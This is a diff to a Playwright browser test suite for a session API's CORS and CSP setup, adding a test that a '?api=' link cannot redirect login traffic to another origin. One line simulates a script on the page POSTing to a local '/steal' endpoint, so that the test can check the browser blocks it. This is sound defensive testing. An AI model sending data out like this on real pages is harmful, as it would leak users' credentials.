@@ -2,7 +2,10 @@
 
 Three origins, all on 127.0.0.1 (one site, so the SameSite=Lax cookie travels
 between them): the API itself (A), a static copy of the page on an origin in
-SESSION_ALLOWED_ORIGINS (B), and one on an origin that is not listed (C).
+SESSION_ALLOWED_ORIGINS (B), and one on an origin that is not listed (C). The
+copies are the page as A serves it with SESSION_PAGE_API_ORIGIN=A, as a
+deployment would copy it. A fourth server (D) only counts what reaches it: a
+link's ?api= pointing there must send it nothing.
 Screenshots of every step go to test-artifacts/browser/<test>/.
 
 Skipped with a reason when Chromium or Playwright is missing; under CI (env CI
@@ -73,16 +76,35 @@ class _Quiet(http.server.SimpleHTTPRequestHandler):
         pass
 
 
+class _Counting(http.server.BaseHTTPRequestHandler):
+    """D: answers every request with 204 and records it; the tests expect it to see none."""
+
+    hits: list[str]
+
+    def _record(self) -> None:
+        self.hits.append(f"{self.command} {self.path}")
+        self.send_response(204)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+
+    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = do_HEAD = _record
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+
 @dataclass(frozen=True)
 class Origins:
     api: str  # A: the API, serving the page at /
     allowed: str  # B: the page on another port, listed in SESSION_ALLOWED_ORIGINS
     foreign: str  # C: the page on a port that is not listed
+    elsewhere: str  # D: an origin that is neither the page's nor the API's
+    elsewhere_hits: list[str]  # what reached D
 
 
 @pytest.fixture
 def origins(project: str, request: pytest.FixtureRequest) -> Iterator[Origins]:
-    """`make run` with B allowed (and A itself, for the page it serves), plus static servers for B and C."""
+    """`make run` with B allowed (and A itself, for the page it serves), static servers for B and C, and D."""
     with tempfile.TemporaryDirectory() as tmp:
         (Path(tmp) / "static").symlink_to(ROOT / "static")
         servers = []
@@ -93,10 +115,18 @@ def origins(project: str, request: pytest.FixtureRequest) -> Iterator[Origins]:
             threading.Thread(target=server.serve_forever, daemon=True).start()
             servers.append(server)
         allowed, foreign = (f"http://127.0.0.1:{s.server_address[1]}" for s in servers)
+        hits: list[str] = []
+        counting = http.server.ThreadingHTTPServer(
+            ("127.0.0.1", free_port()), type("Counting", (_Counting,), {"hits": hits})
+        )
+        threading.Thread(target=counting.serve_forever, daemon=True).start()
+        servers.append(counting)
+        elsewhere = f"http://127.0.0.1:{counting.server_address[1]}"
         api_port = free_port()
         api = f"http://127.0.0.1:{api_port}"
         os.environ["PORT"] = str(api_port)
         os.environ["SESSION_ALLOWED_ORIGINS"] = f"{api},{allowed}"
+        os.environ["SESSION_PAGE_API_ORIGIN"] = api
         os.environ["SESSION_COOKIE_SECURE"] = "true"
         # A cold emulator (or a loaded machine) can take longer than the 5 s default on its first write.
         os.environ["SESSION_FIRESTORE_TIMEOUT_SECONDS"] = "30"
@@ -105,7 +135,9 @@ def origins(project: str, request: pytest.FixtureRequest) -> Iterator[Origins]:
             live = request.getfixturevalue("live_server")
             assert live == api, (live, api)
             _warm_up(api)
-            yield Origins(api, allowed, foreign)
+            # The copy B and C serve: the page as the `api` function serves it.
+            (Path(tmp) / "index.html").write_text(httpx.get(f"{api}/", timeout=30).text)
+            yield Origins(api, allowed, foreign, elsewhere, hits)
         finally:
             for server in servers:
                 server.shutdown()
@@ -330,7 +362,7 @@ def test_an_allowed_origin_can_use_the_api_and_a_foreign_one_cannot(
         )
 
         # B, listed in SESSION_ALLOWED_ORIGINS: login (a preflighted JSON POST), profile, sessions, revoke.
-        page_b = _open(context, f"{origins.allowed}/static/index.html?api={origins.api}")
+        page_b = _open(context, f"{origins.allowed}/index.html")
         assert page_b.inner_text("#api-url") == origins.api
         _login(page_b)
         page_b.wait_for_selector("text=Logged in as alice")
@@ -349,7 +381,7 @@ def test_an_allowed_origin_can_use_the_api_and_a_foreign_one_cannot(
 
         # C, not listed: the browser holds the same cookie, but CORS hides every answer from the page…
         console: list[str] = []
-        page_c = _open(context, f"{origins.foreign}/static/index.html?api={origins.api}", console)
+        page_c = _open(context, f"{origins.foreign}/index.html", console)
         assert page_c.inner_text("#status") == "Not logged in"
         with page_c.expect_event("requestfailed") as failed:
             page_c.click("#profile-button")
@@ -388,3 +420,46 @@ def test_an_allowed_origin_can_use_the_api_and_a_foreign_one_cannot(
         shots(page_b, "allowed-origin-logged-out")
     finally:
         context.close()
+
+
+def test_a_link_cannot_point_the_page_at_another_origin(
+    playwright_browser: Any, origins: Origins, shots: Shots
+) -> None:
+    """?api=D on the real page (A) and on its copy (B): the typed password goes to the API, and nothing to D."""
+    assert (
+        httpx.post(f"{origins.api}/register", json={"username": "alice", "password": PASSWORD}, timeout=30).status_code
+        == 201
+    )
+    context = playwright_browser.new_context()
+    sent: list[str] = []
+    console: list[str] = []
+    context.on("request", lambda r: sent.append(f"{r.method} {r.url}"))
+    try:
+        for name, page_url in (("a", f"{origins.api}/"), ("b", f"{origins.allowed}/index.html")):
+            page = _open(context, f"{page_url}?api={origins.elsewhere}", console)
+            assert page.inner_text("#api-url") == origins.api
+            _login(page)
+            page.wait_for_selector("text=Logged in as alice")
+            _rows(page, 1)
+            page.click("#profile-button")
+            page.wait_for_selector("dd[data-field=username]")
+            # Not even a script on the page can reach D: the CSP allows connections to the page and the API only.
+            outcome = page.evaluate(
+                "url => fetch(url, {method: 'POST', body: 'x'}).then(() => 'sent', (e) => 'blocked')",
+                f"{origins.elsewhere}/steal",
+            )
+            assert outcome == "blocked"
+            page.click("#logout-button")
+            page.wait_for_selector("#status:text-is('Logged out')")
+            shots(page, f"api-parameter-ignored-{name}")
+            page.close()
+    finally:
+        context.close()
+    assert origins.elsewhere_hits == []
+    assert not [line for line in sent if origins.elsewhere in line.split("?", 1)[0]], sent
+    allowed_prefixes = (f"{origins.api}/", f"{origins.allowed}/")
+    assert all(line.split(" ", 1)[1].startswith(allowed_prefixes) for line in sent), sent
+    assert any(line == f"POST {origins.api}/login" for line in sent), sent
+    # The script's attempts, stopped by the browser before any request existed.
+    csp = f"Connecting to '{origins.elsewhere}/steal' violates the following Content Security Policy directive"
+    assert len([line for line in console if line.startswith(csp)]) >= 2, console
